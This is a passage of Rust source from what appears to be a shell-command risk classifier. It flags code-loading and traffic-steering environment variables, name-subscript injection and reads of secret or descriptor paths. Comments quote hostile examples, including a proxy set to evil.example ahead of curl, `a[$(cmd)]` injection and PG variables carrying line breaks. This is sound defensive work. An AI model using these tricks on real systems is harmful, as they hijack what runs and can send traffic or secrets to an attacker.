    // borg's, Proxmox Backup's `{PBS_PASSWORD,PBS_ENCRYPTION_PASSWORD}_CMD`
    // (pbs-client splits the value into words and runs it), docker's
    // configuration folder, whose `cli-plugins` run on `docker info`
    // (review 124).
    "RESTIC_PASSWORD_COMMAND", "BORG_PASSCOMMAND", "BORG_RSH", "BORG_NEW_PASSCOMMAND",
    "PBS_PASSWORD_CMD", "PBS_ENCRYPTION_PASSWORD_CMD", "PBS_FINGERPRINT_CMD", "DOCKER_CONFIG",
    // The MySQL/MariaDB clients' plugins and option files (review 126).
    "LIBMYSQL_PLUGINS", "LIBMYSQL_PLUGIN_DIR", "MYSQL_HOME", "MARIADB_HOME",
];

/// Name prefixes of the same kind (`LD_AUDIT`, `GIT_CONFIG_KEY_0`,
/// exported bash functions, zpool's scripts).
/// Every `BASH_*` name is counted: bash gives several of them meaning
/// (`BASH_CMDS[ls]=/path` makes `ls` run `/path`).
const CODE_PREFIXES: &[&str] = &["LD_", "GIT_CONFIG", "BASH_", "ZPOOL_SCRIPTS"];

/// Variables that only set language, time zone or layout of the output:
/// before a command they keep it read-only. Any other variable there may
/// change what the program does, so it makes the command at least a
/// change (the environment is allowed, not forbidden, by name).
#[rustfmt::skip]
const HARMLESS_VARIABLES: &[&str] = &[
    "LANG", "LANGUAGE", "MANWIDTH", "TZ", "COLUMNS", "LINES", "TERM", "NO_COLOR", "CLICOLOR",
    "CLICOLOR_FORCE", "TIME_STYLE", "SYSTEMD_COLORS", "SYSTEMD_URLIFY", "LESSSECURE",
    // Not `POSIXLY_CORRECT`: GNU programs then stop reading options after
    // the first operand (`uniq IN -d` writes a file named `-d`).
    "DEBIAN_FRONTEND", "QUOTING_STYLE", "BLOCK_SIZE", "DF_BLOCK_SIZE",
    "DU_BLOCK_SIZE", "LS_BLOCK_SIZE",
    // libpq's connection timeout (review 137; not the application's
    // name, sent in the first packet as written: review 138).
    "PGCONNECT_TIMEOUT",
];

/// Pager variables set to plain `cat` (or nothing) only switch the pager
/// off, the usual reason to set them.
const PAGER_VARIABLES: &[&str] = &[
    "PAGER",
    "SYSTEMD_PAGER",
    "GIT_PAGER",
    "MANPAGER",
    "PSQL_PAGER",
];

/// Variables that, set to these values only, make a program do less:
/// git(1) takes no optional lock (`GIT_OPTIONAL_LOCKS=0`: `git status`
/// leaves the index alone) and never prompts for credentials
/// (`GIT_TERMINAL_PROMPT=0`).
/// less(1) saves no history with `LESSHISTFILE=-` (or `/dev/null`).
const SWITCHES_OFF: &[(&str, &str)] = &[
    ("GIT_OPTIONAL_LOCKS", "0"),
    ("GIT_TERMINAL_PROMPT", "0"),
    ("LESSHISTFILE", "-"),
    ("LESSHISTFILE", "/dev/null"),
    // (HashiCorp's Checkpoint call, off; vtysh's history, nowhere.)
    ("CHECKPOINT_DISABLE", "1"),
    ("VTYSH_HISTFILE", "/dev/null"),
    // (libldap reads no ldap.conf nor ldaprc when it is set.)
    ("LDAPNOINIT", "1"),
    // (psql runs no startup file: as `-X`; review 137.)
    ("PSQLRC", "/dev/null"),
];

fn loads_code(name: &str) -> bool {
    DANGEROUS_VARIABLES.contains(&name)
        || CODE_VARIABLES.contains(&name)
        || CODE_PREFIXES.iter().any(|p| name.starts_with(p))
}

/// Builtins that take variable names (`read`, `printf -v`, `unset`,
/// `declare`, …) evaluate a subscript in a name (`a[$(cmd)]` runs cmd), and
/// `let` evaluates arithmetic over variable contents. A value that holds
/// command text (`x='a[$(cmd)]'`) is harmless only until something
/// evaluates it, which this judge cannot follow.
fn evaluates_names(name: &str, args: &[Arg]) -> Option<Verdict> {
    if !TAKES_NAMES.contains(&name) {
        return None;
    }
    // `declare -n x=PS4`: x is PS4 from then on, and setting it sets PS4.
    if let Some(target) = nameref_targets(name, args)
        .into_iter()
        .find(|t| steers(t) || inherited(t))
    {
        return Some(Verdict::destructive(format!(
            "`{name} -n` makes a name refer to {target}: setting it sets {target}, which \
             changes what program or code runs"
        )));
    }
    // `read PS4`, `printf -v PATH …`, `mapfile -t PATH`, `read IFS`: a
    // variable that decides what runs, set from input or text.
    if let Some(set) = assigned_names(name, args).into_iter().find(|n| steers(n)) {
        return Some(Verdict::destructive(format!(
            "`{name}` sets {set}, which changes what program or code runs or how words split"
        )));
    }
    // `read TZ`, `printf -v LANG …`: an inherited variable, exported
    // again with whatever value it gets (twelfth review).
    if let Some(set) = assigned_names(name, args)
        .into_iter()
        .find(|n| inherited(n))
    {
        return Some(Verdict::mutation(format!(
            "`{name}` sets {set}, which the session inherited: bash exports it again, \
             so every later command gets the new value (a path is a file they open)"
        )));
    }
    if let Some(target) = run_time_name(name, args) {
        return Some(evaluation(name, target.raw(), args));
    }
    let names_only_after_v = matches!(name, "printf" | "test" | "[");
    // (`-vNAME` too: bash's builtins read options with getopt.)
    let v_flag = args
        .iter()
        .any(|a| a.literal().is_some_and(|w| w.starts_with("-v")));
    if names_only_after_v && !v_flag {
        return None;
    }
    let stored = matches!(
        name,
        "declare" | "typeset" | "local" | "export" | "readonly"
    );
    // (Or bash's own integer variable: `declare OPTIND=…`; review 100.)
    let integer = args.iter().any(|a| {
        a.literal().is_some_and(|l| {
            l.starts_with('-') && l.contains('i')
                || crate::INTEGER_VARIABLES.contains(&l.split_once('=').map_or(l, |(n, _)| n))
        })
    });
    let holds_command = |t: &str| t.contains("$(") || t.contains('`');
    for arg in args {
        let text = arg.raw();
        let name_part = text.split_once('=').map_or(text, |(n, _)| n);
        if stored
            && !integer
            && !name_part.contains('[')
            && arg.literal().is_some_and(holds_command)
        {
            // Kept as text: it runs only if something evaluates it later.
            return Some(Verdict::mutation(format!(
                "`{name}` stores command text in `{name_part}`, which runs if it is evaluated"
            )));
        }
        if name_part.contains('[')
            || (name == "let" && words::arithmetic_reads_variables(assigned_value(text)))
            || (stored && arg.literal().is_some_and(holds_command))
            || (matches!(name, "test" | "[") && arg.is_dynamic())
        {
            return Some(evaluation(name, text, args));
        }
    }
    None
}

/// Whether a `test` or `[` line's words only known at run time all
/// stand where POSIX's argument count makes them operands, never an
/// operator (`[ -n "$x" ]`, `[ "$a" = "$b" ]`, `[ ! -e "$f" ]`): the
/// unary operator written out and not `-v`/`-R` (which read a name, and
/// evaluate its subscript), the binary one written out, each such word
/// one word (quoted: no split). Then its value changes only the answer.
pub(crate) fn test_operands_only(name: &str, args: &[Arg]) -> bool {
    let words: &[Arg] = match (name, args.split_last()) {
        ("[", Some((last, rest))) if last.literal() == Some("]") => rest,
        ("[", _) => return false,
        _ => args,
    };
    let lit = |a: &Arg, test: fn(&str) -> bool| a.literal().is_some_and(test);
    let unary =
        |w: &str| w.len() == 2 && w.starts_with('-') && "bcdefghknprstuwxzGLNOS".contains(&w[1..]);
    let binary = |w: &str| {
        matches!(
            w,
            "=" | "=="
                | "!="
                | "<"
                | ">"
                | "-eq"
                | "-ne"
                | "-lt"
                | "-le"
                | "-gt"
                | "-ge"
                | "-nt"
                | "-ot"
                | "-ef"
        )
    };
    let operand = |a: &Arg| {
        !a.splits() && (a.is_dynamic() || a.literal().is_some_and(|w| !w.contains(['[', '$', '`'])))
    };
    let bang = |a: &Arg| a.literal() == Some("!");
    match words {
        [x] => operand(x),
        [op, x] => (lit(op, unary) || bang(op)) && operand(x),
        [x, op, y] => {
            (lit(op, binary) && operand(x) && operand(y))
                || (bang(x) && lit(op, unary) && operand(y))
        }
        [b, x, op, y] => bang(b) && lit(op, binary) && operand(x) && operand(y),
        _ => false,
    }
}

/// Builtins whose operands are variable names (or arithmetic over them).
const TAKES_NAMES: &[&str] = &[
    "read",
    "printf",
    "unset",
    "declare",
    "typeset",
    "local",
    "export",
    "readonly",
    "mapfile",
    "readarray",
    "getopts",
    "wait",
    "let",
    "test",
    "[",
];

/// The variables a `declare -n NAME=TARGET…` (typeset, local) makes its
/// names refer to (`args` respelled: `-n` a word of its own).
fn nameref_targets<'a>(name: &str, args: &'a [Arg]) -> Vec<&'a str> {
    if !matches!(name, "declare" | "typeset" | "local") {
        return Vec::new();
    }
    let lits: Vec<&str> = args.iter().filter_map(Arg::literal).collect();
    let nameref = lits
        .iter()
        .any(|w| w.starts_with('-') && !w.starts_with("--") && w.contains('n'));
    if !nameref {
        return Vec::new();
    }
    lits.into_iter()
        .filter(|w| !w.starts_with(['-', '+']))
        .filter_map(|w| w.split_once('=').map(|(_, target)| target))
        .map(|t| t.split('[').next().unwrap_or(t))
        .collect()
}

/// A variable name only known at run time, which can be `a[$(cmd)]`
/// whose subscript bash evaluates: `printf -v "$1"`, `read "$v"`.
fn run_time_name<'a>(name: &str, args: &'a [Arg]) -> Option<&'a Arg> {
    match name {
        "printf" => args
            .windows(2)
            .find(|p| p[0].literal() == Some("-v"))
            .map(|p| &p[1])
            .filter(|a| a.is_dynamic()),
        "read" | "mapfile" | "readarray" => args.iter().find(|a| a.is_dynamic()),
        // `unset x${u:- PATH}`, `getopts : "$v"`: which variable is set
        // or unset is only known at run time (`PATH`, `IFS`).
        "unset" | "getopts" => args.iter().find(|a| a.is_dynamic()),
        "declare" | "typeset" | "local" | "export" | "readonly" => args.iter().find(|a| {
            let raw = a.raw();
            let name = raw.split_once('=').map_or(raw, |(n, _)| n);
            a.is_dynamic() && name.contains(['$', '`', '{', '*', '?'])
        }),
        _ => None,
    }
}

/// `name` evaluates `word`: destructive when command text sits right
/// there (`let 'a[$(cmd)]'`), a change otherwise.
fn evaluation(name: &str, word: &str, args: &[Arg]) -> Verdict {
    let class = if (word.contains("$(") || word.contains('`'))
        && !args.iter().any(|a| a.is_dynamic() && a.raw() == word)
    {
        crate::RiskClass::Destructive
    } else {
        crate::RiskClass::ConfigMutation
    };
    Verdict::new(
        class,
        format!(
            "`{name}` evaluates `{word}`, where a subscript or arithmetic over variable contents can run a command"
        ),
    )
}

/// The expression of `let NAME=EXPR` (and `+=`, `-=`, …): the name is
/// assigned, not read.
fn assigned_value(text: &str) -> &str {
    let trimmed = text.trim_matches(['\'', '"']);
    let name_end = trimmed
        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .unwrap_or(trimmed.len());
    let rest = &trimmed[name_end..];
    let rest = rest.trim_start_matches(['+', '-', '*', '/', '%', '&', '|', '^', '<', '>']);
    match rest.strip_prefix('=').filter(|r| !r.starts_with('=')) {
        Some(value) if name_end > 0 => value,
        _ => text,
    }
}

/// `NAME=value` as a statement (no command after it): it only sets a
/// shell variable, unless the variable changes what later runs.
/// Whether setting `name` (or unsetting it) changes what runs or how a
/// command line is read.
pub(crate) fn steers(name: &str) -> bool {
    loads_code(name) || name == "IFS" || moves_folders(name)
}

/// Whether `name=value` sets PATH to root's own program folders only
/// (`env -i PATH=/usr/sbin:/usr/bin:/sbin:/bin qm list`), each owned by
/// root, in any order: the programs found are the system's (blind corpus
/// 224).
fn system_path(name: &str, value: Option<&str>) -> bool {
    const SYSTEM: &[&str] = &[
        "/usr/local/sbin",
        "/usr/local/bin",
        "/usr/sbin",
        "/usr/bin",
        "/sbin",
        "/bin",
    ];
    name == "PATH"
        && value.is_some_and(|v| {
            !v.is_empty()
                && v.split(':')
                    .all(|dir| SYSTEM.contains(&dir.trim_end_matches('/')))
        })
}

/// Whether setting `name` moves where `~`, `cd` or a folder's tilde
/// leads: `HOME`, `CDPATH`, `OLDPWD` (`~-`, `cd -`), `PWD` (`~+`) and
/// `DIRSTACK` (`~1`; review 46).
pub(crate) fn moves_folders(name: &str) -> bool {
    matches!(name, "HOME" | "CDPATH" | "OLDPWD" | "PWD" | "DIRSTACK")
}

pub(super) fn assignment(name: &str, value: Option<&str>) -> Verdict {
    if system_path(name, value) {
        Verdict::read_only("sets PATH to the system's own program folders")
    } else if loads_code(name) {
        Verdict::destructive(format!(
            "sets {name}, which changes what program or code runs"
        ))
    } else if inherited(name) {
        // bash(1), ENVIRONMENT: a parameter that came from the
        // environment is exported again once modified, so `LANG=/tmp/x;
        // date` is `LANG=/tmp/x date`.
        command_environment(name, value)
    } else {
        Verdict::read_only(format!("sets the variable {name}"))
    }
}

/// Whether `name` is a variable a session may inherit (see
/// [`INHERITED_VARIABLES`]): set again, bash exports it.
pub(crate) fn inherited(name: &str) -> bool {
    INHERITED_VARIABLES.contains(&name) || name.starts_with("LC_")
}

/// Variables a session may inherit (from sshd and PAM, or the locale a
/// client passes): set by a statement, each is exported again.
#[rustfmt::skip]
const INHERITED_VARIABLES: &[&str] = &[
    "SHELL", "USER", "LOGNAME", "MAIL", "SSH_CLIENT", "SSH_CONNECTION", "SSH_AUTH_SOCK", "TERM",
    "LANG", "LANGUAGE", "TZ",
];

/// What `/etc/environment` (pam_env) commonly sets for every session:
/// proxies and the servers clients connect to. Set again by a statement,
/// each is exported again, and a later client connects where it says
/// (review 88: `https_proxy=http://evil.example:3128; curl …`).
pub(crate) const STEERING_ENVIRONMENT: &[&str] = &[
    "http_proxy",
    "https_proxy",
    "HTTP_PROXY",
    "HTTPS_PROXY",
    "ALL_PROXY",
    "all_proxy",
    "no_proxy",
    "NO_PROXY",
    "ftp_proxy",
    "FTP_PROXY",
    "VAULT_ADDR",
    "PGHOST",
    "PGHOSTADDR",
    "DOCKER_HOST",
    "CONTAINER_HOST",
    "KUBECONFIG",
    "ETCDCTL_ENDPOINTS",
    "BAO_ADDR",
    "VAULT_AGENT_ADDR",
    "INFLUX_HOST",
    "MYSQL_HOST",
    "REDISCLI_HOST",
];

/// `NAME=value` before the program `program` (as written, or after
/// `builtin`/`command`): as [`command_environment`], but `IFS` before
/// `read` only sets how `read` splits the line it reads (`while IFS= read
/// -r line`), and `mapfile` does not split: both are builtins and not
/// special ones, so the value holds for them alone, set after their words
/// were expanded.
pub(crate) fn prefix_environment(
    name: &str,
    value: Option<&str>,
    program: Option<&str>,
) -> Verdict {
    if name == "IFS" && matches!(program, Some("read" | "mapfile" | "readarray")) {
        Verdict::read_only("sets IFS for how `read` splits the line it reads")
    } else {
        command_environment(name, value)
    }
}

/// `NAME=value` in a command's environment (`NAME=value CMD`, `env
/// NAME=value CMD`): read-only only for the harmless names above.
pub(super) fn command_environment(name: &str, value: Option<&str>) -> Verdict {
    // (less's own options by letter, none that writes a log or runs a
    // command: `LESS=FRX`; review 124.)
    let less_letters = name == "LESS"
        && value.is_some_and(|v| {
            let v = v.strip_prefix('-').unwrap_or(v);
            !v.is_empty() && v.chars().all(|c| "FRXSiIMmNnJKqQeEgGwW".contains(c))
        });
    let pager_off = PAGER_VARIABLES.contains(&name) && matches!(value, Some("" | "cat"))
        || less_letters
        || value.is_some_and(|v| SWITCHES_OFF.contains(&(name, v)));
    let harmless = HARMLESS_VARIABLES.contains(&name) || name.starts_with("LC_");
    // (libpq sends PGUSER, PGDATABASE and PGAPPNAME in its first packet
    // as written: a line break is a command of its own to a service on
    // the port; review 138.)
    if name.starts_with("PG") && value.is_some_and(|v| v.contains(['\r', '\n'])) {
        return Verdict::destructive(format!(
            "sets {name} with a line break, which libpq sends as written: a command of its own to a service on the port"
        ));
    }
    if system_path(name, value) {
        return Verdict::read_only("sets PATH to the system's own program folders");
    }
    if harmless && !names_no_file(name, value) {
        Verdict::mutation(format!(
            "sets {name} to a path, a file the C library opens (a device acts when opened; \
             a catalog or zone file anyone may have written is read as root)"
        ))
    } else if pager_off || harmless {
        Verdict::read_only(format!(
            "sets {name}, which only changes language or layout"
        ))
    } else if loads_code(name) {
        Verdict::destructive(format!(
            "sets {name}, which changes what program or code runs"
        ))
    } else {
        Verdict::mutation(format!(
            "sets {name} for the command, which may change what it does"
        ))
    }
}

/// Whether a Proxmox CLI boolean option is on: `--NAME` (or `-NAME`)
/// alone or followed by `1`/`yes`/`true`/`on`, `--NAME=1`; `--NAME 0` is
/// off.
pub(super) fn pve_boolean(lits: &[&str], name: &str) -> bool {
    // (pve-common's parse_boolean: any case.)
    let truthy = |v: &str| {
        let v = perl_word(v);
        ["1", "yes", "true", "on"]
            .iter()
            .any(|t| v.eq_ignore_ascii_case(t))
    };
    let boolean = crate::options::pve_boolean_word;
    // The last spelling given wins.
    pve_given(lits, name)
        .last()
        .is_some_and(|(i, value)| match value {
            Some(v) => truthy(v),
            None => lits.get(i + 1).is_none_or(|v| !boolean(v) || truthy(v)),
        })
}

/// A Proxmox Perl CLI's word as pve-common's checks read its value (the
/// value after `=` of an option): one last line break dropped (Perl's `$`
/// matches before it: `0\n` is a false boolean, `1\n` an integer), an
/// integer with a sign or leading zeros (`+1`, `01`: `is_integer`) and a
/// number that is one (`1.0`, `0e0`: `is_number`, used as a number) as
/// the integer.
pub(super) fn perl_word(word: &str) -> String {
    let (head, value) = match word.split_once('=') {
        Some((option, value)) if option.starts_with('-') => (format!("{option}="), value),
        _ => (String::new(), word),
    };
    let value = value.strip_suffix('\n').unwrap_or(value);
    let integer = value
        .strip_prefix(['+', '-'])
        .unwrap_or(value)
        .bytes()
        .all(|b| b.is_ascii_digit())
        && value.bytes().any(|b| b.is_ascii_digit());
    let number = value.contains(['.', 'e', 'E'])
        && value
            .bytes()
            .all(|b| b.is_ascii_digit() || matches!(b, b'+' | b'-' | b'.' | b'e' | b'E'))
        && value.bytes().any(|b| b.is_ascii_digit());
    let normal = if integer {
        value.parse::<i128>().map(|n| n.to_string()).ok()
    } else if number {
        value
            .parse::<f64>()
            .ok()
            .filter(|n| n.fract() == 0.0 && n.abs() < 1e15)
            .map(|n| format!("{}", n as i64))
    } else {
        None
    };
    format!("{head}{}", normal.as_deref().unwrap_or(value))
}

/// Where a Proxmox CLI option `--NAME`/`-NAME` is given, with its value
/// when one follows `=`: every spelling Getopt::Long takes, any case or a
/// unique prefix (`--PRIVSEP`, `--priv`; one letter too: `--d 0` among
/// prune-backups' options is `--dry-run 0`; an ambiguous one fails,
/// harmlessly).
pub(super) fn pve_given<'a>(
    lits: &'a [&str],
    name: &'a str,
) -> impl Iterator<Item = (usize, Option<&'a str>)> + 'a {
    let names = |given: &str| !given.is_empty() && name.starts_with(&given.to_ascii_lowercase());
    lits.iter().enumerate().filter_map(move |(i, w)| {
        let rest = w.strip_prefix("--").or_else(|| w.strip_prefix('-'))?;
        match rest.split_once('=') {
            Some((given, value)) => names(given).then_some((i, Some(value))),
            None => names(rest).then_some((i, None)),
        }
    })
}

/// The zone a GNU date string names when it is a path (`date -d
/// 'TZ="/dev/watchdog" now'`, `find -newermt`, `--date=TZ=…`): gnulib's
/// `parse_datetime` hands a leading `TZ="…"` to `tzalloc`, which opens a
/// path as a zone file, as for the variable.
fn zone_in_date_string(word: &str) -> Option<&str> {
    let text = match word.strip_prefix("--") {
        Some(long) => long.split_once('=')?.1,
        None => word,
    };
    let rest = text.trim_start().strip_prefix("TZ=")?;
    let zone = match rest.strip_prefix(['"', '\'']) {
        Some(quoted) => quoted.split(['"', '\'']).next().unwrap_or(quoted),
        None => rest.split_whitespace().next().unwrap_or(rest),
    };
    (!names_no_file("TZ", Some(zone))).then_some(zone)
}

/// Whether a language or time-zone variable's value is a name, not a
/// path: glibc opens `TZ=/dev/watchdog` (or `:/…`, `../…` under the zone
/// folder) and `LC_ALL=/tmp/x` or `LANGUAGE=../../tmp/x` as locale data
/// and message catalogs. Zone names (`Europe/Berlin`) and POSIX zone rules
/// (`CET-1CEST,M3.5.0,M10.5.0/3`) stay names; a value only known at run
/// time is not one.
fn names_no_file(name: &str, value: Option<&str>) -> bool {
    let locale = name.starts_with("LC_") || matches!(name, "LANG" | "LANGUAGE");
    match value {
        _ if !locale && name != "TZ" => true,
        None => false,
        Some(v) if name == "TZ" => {
            let v = v.strip_prefix(':').unwrap_or(v);
            !v.starts_with('/') && !v.split('/').any(|part| part == "..")
        }
        Some(v) => !v.contains('/'),
    }
}

/// Whether a word may name a secret once bash expands it (a glob, a
/// brace list) or as it stands, relative paths read under each of
/// `folders`.
pub(super) fn names_secret(word: &Arg, folders: &crate::secret_paths::Folders) -> bool {
    // extglob groups (`!(passwd)`, `@(priv)`) are patterns once a shell
    // has `-O extglob`, whatever the parser read.
    let extglob = ["?(", "*(", "+(", "@(", "!("]
        .iter()
        .any(|g| word.raw().contains(g));
    let pattern = word.is_glob() || extglob || (word.is_dynamic() && word.raw().contains('{'));
    crate::secret_paths::names_secret_in(word.raw(), pattern, folders)
        // (Cheaply first: a descriptor's path holds `fd`, or a glob that
        // may stand for it, `/pro?/self/f?/3`, or is relative to a folder
        // the command entered; review 52.)
        || word.literal().is_some_and(|w| {
            (w.contains("fd")
                || (w.contains(['*', '?', '[']) && glob_may_name_a_descriptor(w))
                || !folders.known().iter().all(|f| f == "/root"))
                && crate::secret_paths::spellings(w).iter().any(|s| {
                folders
                    .resolve_reading(s)
                    .iter()
                    .any(|p| inherited_descriptor_path(p))
            })
        })
}

/// Whether a glob's last part may be a descriptor's number: digits and
/// glob characters only (`/pro?/self/f?/3`, `/d?v/f?/*`; not `*.log`).
fn glob_may_name_a_descriptor(word: &str) -> bool {
    let last = word
        .trim_end_matches('/')
        .rsplit('/')
        .next()
        .unwrap_or(word);
    last.chars()
        .all(|c| c.is_ascii_digit() || matches!(c, '*' | '?' | '[' | ']' | '!' | '^' | '-'))
}

/// A descriptor the command did not open, read by path: `/dev/fd/N`,
/// `/proc/self/fd/N` (N past 2): the session's may be a file or a socket
/// holding anything, as `<&N` (review 48). (Process substitutions are
/// `<(…)` words, no path.)
fn inherited_descriptor_path(path: &str) -> bool {
    // (Resolved as the kernel would: `/dev//fd/3`, `/proc/self/root/dev/
    // fd/3`, `cd /dev/fd; cat 3`; any task's view; a glob, `/dev/fd/[3]`;
    // review 49.)
    let mut path = crate::secret_paths::normalised(path.trim_matches(['\'', '"']));
    while let Some(rest) = path.strip_prefix("/proc/self/root/") {
        path = format!("/{rest}");
    }
    let parts: Vec<&str> = path.split('/').filter(|p| !p.is_empty()).collect();
    let fd = match parts.as_slice() {
        ["dev", "fd", n] | ["proc", "self" | "thread-self", "fd", n] => Some(*n),
        ["proc", "self" | "thread-self", "task", _, "fd", n] => Some(*n),
        _ => None,
    };
    if fd.is_some_and(|n| n.contains(['*', '?', '[']) || n.parse::<u32>().is_ok_and(|n| n > 2)) {
        return true;
    }
    // A glob anywhere in it (`/proc/self/f?/3`, `/proc/*/fd/3`): whether
    // it matches such a path (review 51).
    if !path.contains(['*', '?', '[']) {
        return false;
    }
    let pattern = crate::secret_paths::Pattern::new(&path);
    [
        "/dev/fd/3",
        "/proc/self/fd/3",
        "/proc/thread-self/fd/3",
        "/proc/self/task/1/fd/3",
        "/dev/fd/10",
        "/proc/self/fd/255",
    ]
    .iter()
    .any(|sample| pattern.matches(sample))
}

/// Which of a command's words name no file it reads: a search's pattern
/// ([`search::pattern_index`]) and the name globs it is given
/// (`--include=GLOB`, `--exclude=secrets.yaml`: grep matches names
/// against them, and opens none), and a wrapper's command, judged as
/// the program it runs.
pub(crate) fn words_naming_no_file(program: &str, args: &[Arg]) -> Vec<usize> {
    let words: Vec<Option<&str>> = args.iter().map(Arg::literal).collect();
    let globs = args.iter().enumerate().filter(|(_, a)| {
        a.literal().is_some_and(|w| {
            search::glob_option(program, w.split_once('=').map_or("", |(name, _)| name))
        })
    });
    // (A wrapper's command is judged as the program it runs: `pct exec
    // 103 -- grep -vE '^\s*(#|$)' FILE`'s pattern is grep's, no file.)
    let command = crate::tables::command_index(program, args)
        .or_else(|| {
            SHELLS
                .contains(&program)
                .then(|| wrappers::shell_script_index(args))
                .flatten()
        })
        .unwrap_or(args.len());
    // (An HTTP client's URL is a place, no file: `curl
    // http://10.0.0.113:32400/identity`; `file:` URLs are the egress
    // rules' to refuse.)
    let urls = args.iter().enumerate().filter(|(_, a)| {
        matches!(program, "curl" | "wget")
            && a.literal()
                .is_some_and(|w| w.contains("://") && !w.to_ascii_lowercase().starts_with("file:"))
    });
    // (A container engine's operands are containers, images, services:
    // `docker logs vaultwarden`; the values of its file options are files
    // it opens, `compose -f`, `--env-file`; review 48.)
    let engine = matches!(
        program,
        "docker" | "podman" | "docker-compose" | "podman-compose"
    );
    let names = args.iter().enumerate().filter(|(i, a)| {
        engine
            && !a.raw().starts_with('-')
            && !(*i > 0
                && args[i - 1].literal().is_some_and(|o| {
                    matches!(
                        o,
                        "-f" | "--file"
                            | "--env-file"
                            | "--project-directory"
                            | "--config"
                            | "--cidfile"
                            | "--label-file"
                            | "-c"
                            | "--context"
                    )
                }))
    });
    // (pvesh's operands are API paths, no file: `pvesh get
    // /access/users/ops@pve/token` lists token ids; what a path reveals
    // is the pvesh rules'.)
    // (Not a path naming a password, a secret or a key.)
    let api_paths = args.iter().enumerate().filter(|(_, a)| {
        let lower = a.raw().to_ascii_lowercase();
        program == "pvesh"
            && !lower.starts_with('-')
            && !["pass", "secret", "key", "priv"]
                .iter()
                .any(|w| lower.contains(w))
    });
    // (corosync-cmapctl's operands are keys of its map, no file:
    // `totem.token` is a timeout; the key it must not reach, `totem.key`,
    // is its table's to refuse; blind corpus 131.)
    // (Nor sysctl's: `kernel.keys.maxkeys` is a limit; the keys that are
    // secrets are its reveal rule's; blind corpus 130.)
    let cmap_keys = args.iter().enumerate().filter(|(i, a)| {
        let file_value = *i > 0
            && args[i - 1]
                .literal()
                .is_some_and(|o| matches!(o, "-p" | "-f" | "--load"));
        matches!(program, "corosync-cmapctl" | "sysctl") && !a.raw().starts_with('-') && !file_value
    });
    let journal_matches = args
        .iter()
        .enumerate()
        .filter(|(_, a)| program == "journalctl" && a.literal().is_some_and(journal_match));
    let texts = text_words(program, args);
    // (kubectl's `--kubeconfig` file holds its credentials, read to
    // authenticate, never printed.)
    let kubeconfig = args.iter().enumerate().filter(|(i, a)| {
        matches!(program, "kubectl" | "oc" | "helm")
            && (a.raw().starts_with("--kubeconfig=")
                || (*i > 0 && args[i - 1].literal() == Some("--kubeconfig")))
    });
    // (An option the program's table reads, with no value in its word:
    // `openssl x509 -noout -pubkey` names no key file.)
    // (A grep's or sed's pattern given to `-e`: no file, `grep -e
    // id_rsa LOG`; review 143.)
    let regexps = args.iter().enumerate().filter(|(i, _)| {
        matches!(
            program,
            "grep" | "egrep" | "fgrep" | "zgrep" | "rg" | "sed" | "gsed"
        ) && *i > 0
            && args[i - 1].literal().is_some_and(|o| {
                matches!(o, "-e" | "--regexp" | "--expression")
                    || (o.starts_with('-')
                        && !o.starts_with("--")
                        && o.ends_with('e')
                        && program != "sed")
            })
    });
    search::pattern_index(program, &words)
        .into_iter()
        .chain(regexps.map(|(i, _)| i))
        .chain(crate::tables::flag_words(program, args))
        .chain(kubeconfig.map(|(i, _)| i))
        .chain(api_paths.map(|(i, _)| i))
        .chain(cmap_keys.map(|(i, _)| i))
        .chain(journal_matches.map(|(i, _)| i))
        .chain(globs.map(|(i, _)| i))
        .chain(urls.map(|(i, _)| i))
        .chain(texts)
        .chain(names.map(|(i, _)| i))
        .chain(command..args.len())
        .collect()
}

/// Words of `program` that are text it sends or asks about, no file:
/// curl's option values (a form's field `--data-urlencode
/// 'match[]=up{id=~"lxc/.*"}'`, a header; not a value with `@`, a file's
/// contents sent, nor its file options' values; blind corpus 142), `ssh
/// -Q`'s query (`key-sig`; blind corpus 141).
fn text_words(program: &str, args: &[Arg]) -> Vec<usize> {
    match program {
        "curl" => crate::tables::reading(program, args)
            .map(|line| {
                line.options
                    .iter()
                    .filter(|g| {
                        g.from > 0
                            && !matches!(
                                g.name,
                                "o" | "output" | "cacert" | "capath" | "pinnedpubkey"
                            )
                    })
                    .map(|g| g.at + g.from)
                    .filter(|&i| args[i].literal().is_some_and(|v| !v.contains('@')))
                    .collect()
            })
            .unwrap_or_default(),
        "ssh" if args.first().and_then(Arg::literal) == Some("-Q") => vec![1],
        // (jq's `--arg NAME VALUE`, `--argjson NAME JSON`: a name and a
        // text, no file; `--slurpfile` and `--rawfile` read theirs; blind
        // corpus 212.)
        "jq" | "gojq" => args
            .iter()
            .enumerate()
            .filter(|(_, a)| matches!(a.literal(), Some("--arg" | "--argjson")))
            .flat_map(|(i, _)| [i + 1, i + 2])
            .filter(|&i| i < args.len())
            .collect(),
        _ => Vec::new(),
    }
}

/// A configuration file with credential settings
/// ([`crate::secret_paths::credential_settings_file`]) that `program`
/// shows: any program that shows what it reads (a VM's `cipassword`, a
/// compose project's environment; reviews 47 to 49), but a line search
/// that shows no setting ([`search::shows_no_setting`]: names, counts,
/// a VM's settings by anchored name).
pub(crate) fn prints_credential_settings<'a>(
    program: &str,
    args: &'a [Arg],
    no_file: &[usize],
    folders: &crate::secret_paths::Folders,
) -> Option<&'a Arg> {
    // (Programs that print what they read; a checker, `promtool check
    // config`, or a client, `docker compose -f`, prints none of it.)
    #[rustfmt::skip]
    const PRINTERS: &[&str] = &[
        "cat", "tac", "head", "tail", "nl", "less", "more", "most", "bat", "batcat", "strings",
        "od", "xxd", "hexdump", "hd", "base64", "base32", "basenc", "sort", "uniq", "column",
        "paste", "pr", "fold", "fmt", "expand", "unexpand", "rev", "iconv", "zcat", "zless",
        "zmore", "tee", "diff", "sdiff", "comm", "shuf", "envsubst", "view", "dd", "cut", "join",
        "sed", "gsed", "awk", "gawk", "mawk", "nawk", "tr", "look", "cmp", "gzip", "zstd", "xz",
        "bzip2", "lz4", "jq", "yq", "gojq", "xzcat", "bzcat", "zstdcat", "lzcat", "lz4cat",
        "unxz", "unzstd", "bunzip2", "gunzip", "systemd-analyze", "xargs",
        // (It quotes the lines it finds fault with; review 65.)
        "shellcheck",
        // (Stop 80's tables: what they compare or filter, printed;
        // review 142.)
        "diff3", "filterdiff", "grepdiff", "interdiff", "combinediff", "crushtool",
    ];
    let searches = search::LINE_SEARCHES.contains(&program);
    if !searches && !PRINTERS.contains(&program) {
        return None;
    }
    // (systemd-analyze cat-config reads its words under /etc.)
    let cat_config = program == "systemd-analyze";
    let mut formats = Vec::new();
    let mut first = None;
    for a in args
        .iter()
        .enumerate()
